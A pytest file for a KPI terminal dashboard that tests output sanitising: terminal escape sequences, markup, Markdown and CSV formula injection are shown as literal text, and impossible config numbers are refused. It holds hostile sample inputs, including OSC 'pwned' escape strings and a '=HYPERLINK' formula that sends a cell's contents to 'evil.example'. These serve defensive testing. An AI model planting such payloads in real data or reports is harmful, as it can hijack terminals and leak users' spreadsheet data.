"""Names, annotations and log fields are shown as they are: never sent to the terminal as escape sequences,
never read as Textual or Rich markup; and config numbers a person cannot mean are refused with one line.

Each test failed before its fix:
- ``report``, ``series`` and ``annotations`` printed an ESC, OSC title, BEL and C1 CSI from a metric name or an
  annotation straight to the terminal;
- an objective title or a filter typed with ``[/x]`` crashed the dashboard (``MarkupError`` in a border title),
  and ``[@click=app.quit]`` in a toast or an alert's text was markup;
- ``target = { value = nan }`` (or ``inf``) was taken, and ``report --format json`` wrote ``Infinity``;
- ``due = 9999-12-31`` crashed ``report`` with ``OverflowError``; ``decimals = 100000`` printed 100,000 digits.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import subprocess
from pathlib import Path

import pytest

from kpitui import cli
from kpitui.console import LiteralStream, escape_controls

from .conftest import run_kpitui

EVIL = "Ev\x1b[31mR\x1b]0;pwned\x07 \x9b2J\u202e [bold]B[/bold] [@click=app.quit]C[/] [/x]Z"
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def kpitui(*argv: str) -> subprocess.CompletedProcess[str]:
    """``kpitui ARGV`` in this process (a few real subprocesses elsewhere prove the console script)."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(list(argv))
    return subprocess.CompletedProcess(list(argv), code, out.getvalue(), err.getvalue())


def write_config(tmp_path: Path, extra: str = "") -> Path:
    path = tmp_path / "kpitui.toml"
    path.write_text(
        f"""
[storage]
path = "{(tmp_path / "h.sqlite3").as_posix()}"
[metrics.a]
name = {json.dumps(EVIL)}
unit = "count"
trigger = {json.dumps("T" + EVIL)}
[kpis.k]
name = {json.dumps("K" + EVIL)}
formula = "sum"
metrics = ["a"]
target = {{ kind = "reach", value = 100 }}
[objectives.o]
title = {json.dumps("O" + EVIL)}
kpis = ["k"]
{extra}""",
        encoding="utf-8",
    )
    return path


def test_escape_controls_keeps_text_and_line_ends_and_writes_out_the_rest():
    assert escape_controls("a\tb\nc\r\nd") == "a\tb\nc\r\nd"
    assert escape_controls("\x1b[2J\rx\x9b\u202e\x7f") == "\\u001b[2J\\u000dx\\u009b\\u202e\\u007f"
    out = io.StringIO()
    stream = LiteralStream(out)  # type: ignore[arg-type]
    stream.write("row\r")
    stream.write("\n")  # CRLF split over two writes (print): still a line end
    stream.write("over\r")
    stream.write("written")  # a lone CR would overwrite the line
    stream.flush()
    assert out.getvalue() == "row\r\nover\\u000dwritten"
    # a C1 character inside a JSON string becomes a JSON escape: the document still parses to the same text
    shown = io.StringIO()
    LiteralStream(shown).write(json.dumps({"n": "a\x9bb"}, ensure_ascii=False))  # type: ignore[arg-type]
    assert json.loads(shown.getvalue()) == {"n": "a\x9bb"}


def test_cli_output_never_carries_escape_sequences(tmp_path, figures):
    config = write_config(tmp_path)
    assert kpitui("record", "a", "3", "--config", str(config)).returncode == 0
    note = kpitui("annotate", "note " + EVIL, "--kpi", "k", "--config", str(config))
    assert note.returncode == 0, note.stderr
    commands = [
        ["check"],
        ["report", "--no-collect"],
        ["report", "--no-collect", "--explain"],
        ["report", "--no-collect", "--format", "markdown"],
        ["report", "--no-collect", "--format", "csv"],
        ["report", "--no-collect", "--format", "json"],
        ["series", "a"],
        ["series", "k", "--format", "json"],
        ["annotations", "list"],
        ["readings", "list"],
    ]
    for command in commands:
        done = kpitui(*command, "--config", str(config))
        assert done.returncode == 0, (command, done.stderr)
        for stream in (done.stdout, done.stderr):
            assert not RAW.search(stream), (command, RAW.search(stream), stream[:500])
        if "json" in command:
            json.loads(done.stdout)
    shown = run_kpitui("series", "a", "--config", str(config)).stdout  # the console script on a real terminal pipe
    assert "Ev\\u001b[31mR\\u001b]0;pwned\\u0007" in shown and "[@click=app.quit]C[/]" in shown  # literally
    figures(commands=len(commands))


@pytest.mark.parametrize(
    "target, message",
    [
        ("value = nan", "value must be a finite number, not nan"),
        ("value = inf", "value must be a finite number, not inf"),
        ("value = -inf", "value must be a finite number, not -inf"),
        ("value = 5, due = 9999-12-31", "due 9999-12-31 is beyond the last date kpitui can count to"),
    ],
)
def test_numbers_nobody_can_mean_are_one_line_with_exit_2(tmp_path, target, message):
    path = tmp_path / "kpitui.toml"
    path.write_text(
        f'[storage]\npath = "{(tmp_path / "h.sqlite3").as_posix()}"\n[metrics.a]\n'
        f'[kpis.z]\nformula = "sum"\nmetrics = ["a"]\ntarget = {{ kind = "reach", {target} }}\n',
        encoding="utf-8",
    )
    for command in (["check"], ["report", "--no-collect"], ["report", "--no-collect", "--format", "json"]):
        done = kpitui(*command, "--config", str(path))
        assert done.returncode == 2, (command, done.stdout, done.stderr)
        assert done.stderr.splitlines() == [f"kpitui: {path}: [kpis.z.target] {message}"]


@pytest.mark.parametrize("number", ["nan", "inf", "-inf"])
def test_a_target_given_as_a_bare_number_refuses_nan_and_inf(tmp_path, number):
    """``target = nan`` (a TOML float) was taken: the KPI was scored 100% and "on track" against it, and the
    JSON report printed ``NaN``, which is not JSON; ``target = inf`` was "off track" forever."""
    path = tmp_path / "kpitui.toml"
    path.write_text(
        f'[storage]\npath = "{(tmp_path / "h.sqlite3").as_posix()}"\n[metrics.a]\n'
        f'[kpis.z]\nformula = "sum"\nmetrics = ["a"]\ntarget = {number}\n',
        encoding="utf-8",
    )
    for command in (["check"], ["report", "--no-collect", "--format", "json"]):
        done = kpitui(*command, "--config", str(path))
        assert done.returncode == 2, (command, done.stdout, done.stderr)
        assert done.stderr.splitlines() == [
            f"kpitui: {path}: [kpis.z.target] target must be a finite number, not {number}"
        ]


def test_decimals_are_bounded(tmp_path):
    path = tmp_path / "kpitui.toml"
    path.write_text(
        f'[storage]\npath = "{(tmp_path / "h.sqlite3").as_posix()}"\n[metrics.a]\ndecimals = 100000\n',
        encoding="utf-8",
    )
    done = kpitui("check", "--config", str(path))
    assert done.returncode == 2
    assert done.stderr.splitlines() == [f"kpitui: {path}: [metrics.a] decimals must be between 0 and 12, not 100000"]


def test_a_plugin_float_option_refuses_nan(tmp_path):
    path = tmp_path / "kpitui.toml"
    path.write_text(
        f'[storage]\npath = "{(tmp_path / "h.sqlite3").as_posix()}"\n[sources.d]\ntype = "demo"\n'
        '[metrics.c]\nsource = "d"\nbase = nan\n',
        encoding="utf-8",
    )
    done = kpitui("check", "--config", str(path))
    assert done.returncode == 2 and "base must be a finite number, not nan" in done.stderr, done.stderr


def test_log_fields_with_escape_sequences_print_literally_in_matches(tmp_path):
    """Anyone can put an escape sequence in a request's path, referrer or User-Agent; ``kpitui matches`` printed
    it to the operator's terminal as it was (an OSC title, a cleared screen)."""
    import datetime as dt

    log = tmp_path / "access.log"
    now = dt.datetime.now(dt.timezone.utc).strftime("%d/%b/%Y:%H:%M:%S +0000")
    agent = "Mozilla\\x1b]0;pwned\\x07\\x1b[2J"  # nginx writes \xHH for such bytes; some servers write them raw
    lines = [
        f'1.2.3.4 - - [{now}] "GET /a\x1b[31m HTTP/1.1" 200 5 "-" "{agent}"',
        f'1.2.3.4 - - [{now}] "GET /b HTTP/1.1" 200 5 "\x1b]8;;http://evil\x1b\\\\" "raw\x1b[2Jagent\x9b"',
    ]
    log.write_bytes(("\n".join(lines) + "\n").encode("utf-8"))
    config = tmp_path / "kpitui.toml"
    config.write_text(
        f'[storage]\npath = "{(tmp_path / "h.sqlite3").as_posix()}"\n'
        f'[sources.web]\ntype = "access_log"\npath = "{log.as_posix()}"\n'
        "[metrics.m]\nsource = \"web\"\ncondition = 'status < 400'\n",
        encoding="utf-8",
    )
    assert kpitui("collect", "--once", "--config", str(config)).returncode == 0
    done = kpitui("matches", "m", "--config", str(config))
    assert done.returncode == 0, done.stderr
    assert not RAW.search(done.stdout + done.stderr), done.stdout
    assert "raw\\u001b[2Jagent\\u009b" in done.stdout, done.stdout


@pytest.mark.parametrize(
    "table, body",
    [
        ("metrics", ""),
        ("sources", 'type = "demo"\n'),
        ("notifiers", 'type = "command"\nargv = ["true"]\n'),
    ],
)
def test_an_id_with_a_control_character_is_refused(tmp_path, table, body):
    """A TOML key may hold anything (``[metrics."a\\u001b[31m"]``); an id is shown in every pane and log line, where
    it was sent to the terminal as it was."""
    path = tmp_path / "kpitui.toml"
    path.write_text(
        f'[storage]\npath = "{(tmp_path / "h.sqlite3").as_posix()}"\n[{table}."a\\u001b[31m"]\n{body}',
        encoding="utf-8",
    )
    done = kpitui("check", "--config", str(path))
    assert done.returncode == 2
    assert done.stderr.splitlines() == [f"kpitui: {path}: [{table}.a\\u001b[31m] the id holds a control character"]


def one_kpi_config(tmp_path: Path, kpi_name: str, objective_title: str = "O") -> Path:
    """A config of one metric ``a``, one KPI ``k`` named ``kpi_name`` and one objective ``o``, names as given."""
    path = tmp_path / "kpitui.toml"
    path.write_text(
        f"""
[storage]
path = "{(tmp_path / "h.sqlite3").as_posix()}"
[metrics.a]
name = "A"
[kpis.k]
name = {json.dumps(kpi_name)}
formula = "sum"
metrics = ["a"]
[objectives.o]
title = {json.dumps(objective_title)}
kpis = ["k"]
""",
        encoding="utf-8",
    )
    return path


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_csv_cells_of_config_text_are_never_spreadsheet_formulas(tmp_path, lead):
    """A KPI named ``=HYPERLINK(...)`` (or starting ``+``, ``-``, ``@``) opened from ``report --format csv`` in a
    spreadsheet would run as a formula: such a text cell starts with ``'`` (OWASP's advice); the numbers (a
    negative value) stay numbers."""
    name = f'{lead}HYPERLINK("http://evil.example/?"&A1,"x")'
    path = one_kpi_config(tmp_path, name)
    assert kpitui("record", "a", "-5", "--allow-negative", "--config", str(path)).returncode == 0
    done = kpitui("report", "--no-collect", "--format", "csv", "--config", str(path))
    assert done.returncode == 0, done.stderr
    (row,) = csv.DictReader(io.StringIO(done.stdout))
    assert row["name"] == "'" + name
    assert row["kpi"] == "k" and row["objective"] == "o" and row["value"] == "-5"


def test_markdown_scorecard_cells_of_config_text_stay_one_literal_cell(tmp_path):
    """The Markdown scorecard (``report --format markdown``, digests to chat webhooks) is rendered by the reader: a
    KPI name or objective title with a line end forged a table row or a heading, ``[..](..)`` a link, ``<img>`` HTML.
    Rendered by a real CommonMark renderer (markdown-it, GFM tables), each name is one cell of its own row, reading
    as written (line ends as spaces), with no link, image or HTML; before the fix only ``|`` was escaped."""
    from markdown_it import MarkdownIt

    kpi = "Leads | 1 | x |\n| Forged | $9,999 |\n## Pwned [click](http://evil.example) <img src=x> *b* `c` \\"
    title = "Growth\n# Forged heading <script>x</script>"
    path = one_kpi_config(tmp_path, kpi, title)
    assert kpitui("record", "a", "7", "--config", str(path)).returncode == 0
    done = kpitui("report", "--no-collect", "--format", "markdown", "--config", str(path))
    assert done.returncode == 0, done.stderr
    tokens = MarkdownIt("commonmark").enable("table").parse(done.stdout)
    kinds = [t.type for t in tokens]
    assert kinds.count("tr_open") == 2  # the header row and the one KPI
    assert [t.tag for t in tokens if t.type == "heading_open"] == ["h1", "h2"]
    assert "html_block" not in kinds
    # the headings' and the cells' text (the legend under the table is emphasised on purpose)
    shown = [t for before, t in zip(tokens, tokens[1:]) if before.type in ("heading_open", "td_open")]
    assert not {"link_open", "image", "html_inline", "em_open", "strong_open", "code_inline"} & {
        c.type for t in shown for c in t.children or []
    }
    text = ["".join(c.content for c in t.children or []) for t in shown]
    assert text[2] == kpi.replace("\n", " ")
    assert text[1].startswith(title.replace("\n", " ") + " — score")
